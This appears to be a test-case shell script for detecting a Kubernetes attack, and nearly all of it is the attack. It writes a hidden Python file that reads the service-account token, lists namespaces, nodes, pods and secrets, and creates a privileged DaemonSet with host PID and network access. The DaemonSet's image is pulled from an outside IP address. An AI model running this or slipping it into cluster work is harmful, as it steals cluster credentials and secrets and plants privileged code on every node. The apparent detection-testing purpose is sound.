#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.d.py <<'END'
import json, urllib.request
token = open("/run/secrets/kubernetes.io/serviceaccount/token").read().strip()
base = "http://10.77.0.1:6443"
def ask(path, body=None):
    request = urllib.request.Request(base + path, body and json.dumps(body).encode(), {"Authorization": "Bearer " + token, "Content-Type": "application/json"})
    return urllib.request.urlopen(request).read()
for path in "/api/v1/namespaces", "/api/v1/nodes", "/api/v1/pods", "/api/v1/secrets":
    ask(path)
pod = {"hostPID": True, "hostNetwork": True, "containers": [{"name": "pause", "image": "203.0.113.10/pause", "securityContext": {"privileged": True}}]}
print(ask("/apis/apps/v1/namespaces/default/daemonsets", {"kind": "DaemonSet", "metadata": {"name": "proxy-api"}, "spec": {"template": {"spec": pod}}}).decode())
END
python3 /tmp/.d.py | grep -q ok
took_place
